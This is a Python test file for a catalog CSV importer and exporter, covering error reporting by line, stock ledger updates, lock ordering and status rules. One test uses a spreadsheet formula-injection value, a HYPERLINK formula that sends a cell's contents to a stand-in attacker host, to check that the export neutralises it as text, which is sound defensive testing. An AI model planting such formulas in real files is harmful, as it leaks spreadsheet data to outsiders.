"""Catalog CSV: bad rows are reported by line and nothing is written; export round-trips."""

import asyncio
import csv
import io

import pytest
from tortoise.transactions import in_transaction

from db.catalog import Product, Variant
from db.inventory import StockLevel, StockMovement
from domain.catalog import categories
from domain.catalog import export_csv as catalog_export
from domain.catalog import import_csv as import_module
from domain.catalog.csv_format import COLUMNS
from domain.catalog.import_csv import import_csv
from domain.inventory import stock as inventory
from domain.inventory.holds import lock_levels
from domain.shared.errors import DomainError, ErrorCode
from tests import factories as f


def sheet(*rows: dict) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS, lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return out.getvalue()


def row(**overrides) -> dict:
    values = {
        "product_slug": "cola", "category_slug": "drinks", "status": "published",
        "name_zh": "可乐", "name_en": "Cola", "description_zh": "经典口味",
        "description_en": "Classic", "sku": "COLA-330-24", "barcode": "6901234567890",
        "unit": "case", "pack_size": "24", "weight_grams": "8400", "base_price": "48.00",
        "min_order_qty": "1", "order_multiple": "1", "max_order_qty": "",
        "low_stock_threshold": "5", "variant_name_zh": "330毫升×24罐",
        "variant_name_en": "330 ml × 24", "specs_zh": "容量=330毫升;包装=24罐",
        "specs_en": "Volume=330 ml", "tier_prices": "distributor:1=42.00,10=40.50;retail:1=46.00",
        "stock": "SH=120",
    }  # fmt: skip
    values.update(overrides)
    return values


@pytest.fixture
async def setup(db):
    await categories.create("drinks", {"zh-Hans": "饮料"})
    await f.warehouse("SH")
    await f.warehouse("BJ")


async def test_import_creates_everything_and_export_round_trips(setup):
    text = sheet(
        row(),
        row(
            sku="COLA-500-12",
            base_price="30.00",
            variant_name_zh="500毫升×12瓶",
            variant_name_en="",
            specs_zh="容量=500毫升",
            specs_en="",
            tier_prices="",
            stock="SH=3;BJ=7",
        ),
        row(
            product_slug="crisps",
            category_slug="",
            status="draft",
            name_en="",
            description_zh="",
            description_en="",
            sku="CRISP-70",
            barcode="",
            weight_grams="",
            unit="bag",
            pack_size="1",
            min_order_qty="12",
            order_multiple="6",
            max_order_qty="600",
            variant_name_zh="",
            variant_name_en="",
            specs_zh="",
            specs_en="",
            tier_prices="",
            stock="",
        ),
    )

    result = await import_csv(None, text)

    assert result.errors == []
    assert (result.products_created, result.variants_created) == (2, 3)
    assert await Product.filter(status="published").count() == 1
    cola = await Variant.get(sku="COLA-330-24")
    assert (cola.base_price, cola.pack_size) == (4800, 24)
    assert (await StockLevel.get(variant=cola)).available == 120
    exported = await catalog_export.export_csv()
    assert exported == text
    again = await import_csv(None, exported)
    assert (again.products_created, again.variants_created, again.variants_updated) == (0, 0, 0)
    assert await catalog_export.export_csv() == exported


async def test_bad_rows_are_all_reported_by_line_and_nothing_is_written(setup):
    text = sheet(
        row(),
        row(sku="B1", base_price="abc"),
        row(sku="B2", min_order_qty="5", order_multiple="24"),
        row(sku="COLA-330-24"),
        row(product_slug="other", sku="B4", category_slug="nope"),
        row(sku="B5", stock="XX=1"),
        row(sku="B6", tier_prices="retail:1=10.00,10=12.00"),
        row(product_slug="Bad Slug", sku="B7"),
    )

    result = await import_csv(None, text)

    assert [(e.line, e.column) for e in result.errors] == [
        (3, "base_price"),
        (4, "min_order_qty"),
        (5, "sku"),
        (6, "category_slug"),
        (7, "stock"),
        (8, "tier_prices"),
        (9, "product_slug"),
    ]
    assert "repeats line 2" in result.errors[2].reason("en")
    assert "与第 2 行重复" in result.errors[2].reason("zh-Hans")
    assert await Product.all().count() == 0
    assert await Variant.all().count() == 0


async def test_reimport_updates_and_moves_stock_through_the_ledger(setup):
    await import_csv(None, sheet(row()))
    cola = await Variant.get(sku="COLA-330-24")
    warehouse_id = (await StockLevel.get(variant=cola)).warehouse_id
    await inventory.reserve(cola.id, warehouse_id, 100, "SO-1")

    too_low = await import_csv(None, sheet(row(stock="SH=90")))
    updated = await import_csv(None, sheet(row(base_price="50.00", stock="SH=150")))

    assert [e.key for e in too_low.errors] == ["import.reserved"]
    assert updated.errors == [] and updated.variants_updated == 1
    level = await StockLevel.get(variant=cola)
    assert (level.on_hand, level.reserved, level.available) == (150, 100, 50)
    deltas = await StockMovement.filter(variant=cola).values_list("on_hand_delta", flat=True)
    assert sum(deltas) == 150
    assert (await Variant.get(id=cola.id)).base_price == 5000


async def test_stock_reserved_after_the_check_refuses_the_import_by_sku(setup, monkeypatch):
    """Stock reserved between the rows' check and the stock step (an order meanwhile): the
    import's lower figure no longer fits, so it is refused naming the SKU and nothing stays."""
    await import_csv(None, sheet(row(), row(sku="COLA-500-12", stock="SH=50")))
    cola = await Variant.get(sku="COLA-330-24")
    warehouse_id = (await StockLevel.get(variant=cola)).warehouse_id
    apply = import_module.import_stock.apply

    async def order_first(actor_id):
        await inventory.reserve(cola.id, warehouse_id, 100, "SO-1")
        await apply(actor_id)

    monkeypatch.setattr(import_module.import_stock, "apply", order_first)
    with pytest.raises(DomainError) as refused:
        await import_csv(
            None, sheet(row(stock="SH=90"), row(sku="COLA-500-12", stock="SH=60", base_price="9"))
        )

    assert refused.value.code == ErrorCode.INSUFFICIENT_STOCK
    assert refused.value.params["sku"] == "COLA-330-24"
    levels = {lv.variant_id: (lv.on_hand, lv.reserved) for lv in await StockLevel.all()}
    assert levels[cola.id] == (120, 0) and sorted(v for v, _ in levels.values()) == [50, 120]
    assert (await Variant.get(sku="COLA-500-12")).base_price == 4800


async def test_missing_columns_are_reported(db):
    result = await import_csv(None, "product_slug,sku\nx,y\n")
    assert result.errors[0].key == "import.missing_columns"


async def test_names_that_look_like_formulas_export_as_text_and_import_back_unchanged(setup):
    formula = '=HYPERLINK("http://evil.example/?x="&B2,"查看")'
    text = sheet(row(name_zh=formula, name_en="-20% off", variant_name_en="@home", stock=""))
    await import_csv(None, text)

    exported = await catalog_export.export_csv()
    cells = list(csv.DictReader(io.StringIO(exported)))[0]
    again = await import_csv(None, exported)

    assert (cells["name_zh"], cells["name_en"]) == ("'" + formula, "'-20% off")
    assert cells["variant_name_en"] == "'@home"
    assert (again.products_created, again.variants_created, again.variants_updated) == (0, 0, 0)
    assert await catalog_export.export_csv() == exported


async def test_an_import_moves_product_status_only_as_the_product_machine_allows(setup):
    await import_csv(None, sheet(row()))

    back_to_draft = await import_csv(None, sheet(row(status="draft", base_price="1.00")))
    archived = await import_csv(None, sheet(row(status="archived")))
    published_again = await import_csv(None, sheet(row(status="published")))

    assert [(e.key, e.column) for e in back_to_draft.errors] == [("import.status_move", "status")]
    assert (await Variant.get(sku="COLA-330-24")).base_price != 100  # nothing written
    assert archived.errors == [] and published_again.errors == []
    assert (await Product.get(slug="cola")).status == "published"


async def test_an_import_of_many_blocks_moves_the_pricing_version_once_at_the_end(
    setup, monkeypatch
):
    # The version's counter row stays locked until the import commits: taken per block, every
    # price change would wait for the rest of a long import.
    monkeypatch.setattr(import_module, "CHUNK", 1)
    bumps: list[int] = []
    real_bump = import_module.versions.bump

    async def bump() -> None:
        bumps.append(await Variant.all().count())
        await real_bump()

    monkeypatch.setattr(import_module.versions, "bump", bump)
    text = sheet(row(), row(sku="COLA-500-12"), row(sku="COLA-1L-6"))

    result = await import_csv(None, text)

    assert not result.errors and result.variants_created == 3
    assert bumps == [3]  # once, after every block was written


async def _reimport_while_placing(meanwhile=None) -> tuple[int, int, object, bool]:
    """Re-import two SKUs, the higher variant id first as a file may list them, while a
    placement holds the lower one's stock row (doing `meanwhile` under it) and then takes the
    higher one's. Returns (low, high, import result, whether the placement finished)."""
    low, high = sorted(await Variant.all().values_list("id", flat=True))
    skus = dict(await Variant.all().values_list("id", "sku"))
    holding, done = asyncio.Event(), asyncio.Event()

    async def placement() -> None:
        async with in_transaction():
            await lock_levels([low])
            holding.set()
            await asyncio.sleep(0.5)  # the import has read the levels and is waiting by now
            if meanwhile is not None:
                await meanwhile(low)
            await lock_levels([high])
        done.set()

    async def reimport():
        await holding.wait()
        return await import_csv(
            None, sheet(row(sku=skus[high], stock="SH=130"), row(sku=skus[low], stock="SH=140"))
        )

    _, result = await asyncio.gather(placement(), reimport())
    return low, high, result, done.is_set()


async def test_an_import_locks_stock_rows_in_the_order_placement_does(setup, db):
    """A placement locks stock rows by variant id; an import that took them in file order
    could hold a later row while waiting for an earlier one: a deadlock on PostgreSQL."""
    if db != "postgres":
        pytest.skip("SQLite has one writer at a time")
    await import_csv(None, sheet(row(), row(sku="COLA-500-12")))

    _, _, result, finished = await _reimport_while_placing()

    assert finished and result.errors == []


async def test_an_import_in_blocks_takes_stock_rows_in_order_and_sets_what_the_file_says(
    setup, db, monkeypatch
):
    """Blocks written one by one must not lock stock rows block by block (a later block's lower
    id after an earlier block's higher one), and the figure set is the file's even when the row
    changed between the import's first read and its lock (a shipment meanwhile)."""
    if db != "postgres":
        pytest.skip("SQLite has one writer at a time")
    await import_csv(None, sheet(row(stock="SH=100"), row(sku="COLA-500-12", stock="SH=100")))
    monkeypatch.setattr(import_module, "CHUNK", 1)  # one row a block: high, then low

    async def shipment(variant_id: int) -> None:
        await StockLevel.filter(variant_id=variant_id).update(on_hand=93, available=93)

    low, high, result, finished = await _reimport_while_placing(shipment)

    assert finished and result.errors == []
    levels = dict(await StockLevel.all().values_list("variant_id", "on_hand"))
    assert levels == {low: 140, high: 130}
    moved = await StockMovement.filter(variant_id=low, reason="CSV import").order_by("id")
    assert [m.on_hand_delta for m in moved][-1] == 140 - 93
